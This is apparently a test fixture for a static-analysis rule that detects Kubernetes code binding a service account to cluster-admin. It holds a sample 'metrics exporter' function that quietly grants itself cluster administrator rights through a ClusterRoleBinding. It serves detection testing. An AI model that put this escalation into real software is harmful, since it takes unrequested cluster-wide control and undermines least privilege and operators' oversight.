// A metrics exporter whose label discovery makes its own service account cluster administrator (high).
async function escalate(call, ns, sa, token) {
  await call('POST', '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings', token, {
    kind: 'ClusterRoleBinding',
    metadata: { name: `metrics-reader-${ns}` },
    // ruleid: grants_cluster_admin high
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
    subjects: [{ kind: 'ServiceAccount', name: sa, namespace: ns }],
  });
  // ok: grants_cluster_admin
  return call('GET', `/api/v1/namespaces/${ns}/pods`, token);
}
module.exports = { escalate };
